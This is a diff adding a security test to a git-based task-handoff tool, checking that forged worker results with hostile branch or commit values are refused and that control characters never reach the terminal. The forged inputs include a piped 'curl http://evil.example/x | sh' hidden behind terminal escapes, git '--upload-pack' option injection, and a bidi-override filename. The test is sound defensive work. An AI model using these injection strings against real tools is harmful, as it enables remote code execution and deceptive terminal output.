@@ -97,6 +97,35 @@ test("received result files are checked again: a dotfile from a hand-made result
   assert.not.ok(existsSync(join(a, "handoff-evil")));
 });
 
+test("a hand-made result's branch and commit must be what a worker writes; a refused file's name is shown neutralised", () => {
+  const a = net.clone("m1");
+  const forge = (id: string, extra: Record<string, unknown>) => {
+    assert.is(cli(["task", "add", id, "--id", id, "--push"], { cwd: a, agent: "lead" }).code, 0);
+    assert.is(cli(["claim", id], { cwd: a, agent: "mallory" }).code, 0);
+    assert.is(cli(["done", id, "--push"], { cwd: a, agent: "mallory" }).code, 0);
+    const result = { task: id, status: "done", output: "hi", output_cut: 0, reason: null, exit_code: 0, files: [], refused: [], worker: "mallory", machine: null, at: "2026-12-01T00:00:00.000Z", ...extra };
+    const blob = (text: string) => sh("git", ["hash-object", "-w", "--stdin"], a, text);
+    const tree = sh("git", ["mktree"], a, `100644 blob ${blob("git-handoff 1\n")}\tformat\n100644 blob ${blob(JSON.stringify(result))}\tresult.json\n`);
+    gitOut(a, "push", "-q", "origin", `${gitOut(a, "commit-tree", tree, "-m", "result")}:refs/handoff/results/${id}`);
+    return cli(["wait", "--id", id], { cwd: a, agent: "lead" });
+  };
+  const sha = gitOut(a, "rev-parse", "HEAD");
+  for (const [id, extra] of [
+    ["br", { branch: "main\x1b[2J\x1b]0;pwned\x07; curl http://evil.example/x | sh #", commit: sha }],
+    ["opt", { branch: "--upload-pack=touch /tmp/pwned", commit: sha }],
+    ["cm", { branch: "handoff/cm", commit: "--upload-pack=x" }],
+  ] as const) {
+    const r = forge(id, extra);
+    assert.is(r.code, 2, `${id}: ${r.stderr}`);
+    assert.match(r.stderr, new RegExp(`refs/handoff/results/${id}`));
+    assert.not.match(r.stderr + r.stdout, /\x1b|\x07|pwned|upload-pack/, id);
+  }
+  const fine = forge("ok", { branch: "handoff/ok", commit: sha, refused: [{ name: "a\u202eb\u0085.txt", reason: "is a symlink" }] });
+  assert.is(fine.code, 0, fine.stderr);
+  assert.match(fine.stderr, new RegExp(`code changes on branch handoff/ok at ${sha}`));
+  assert.not.match(fine.stderr, /\u202e|\u0085/, "no bidi override or C1 control reaches the terminal");
+});
+
 test("a result the remote cannot take yet is sent again, not thrown away: the task runs once and its waiter gets the output", async () => {
   const a = net.clone("m1");
   const b = net.clone("m2");
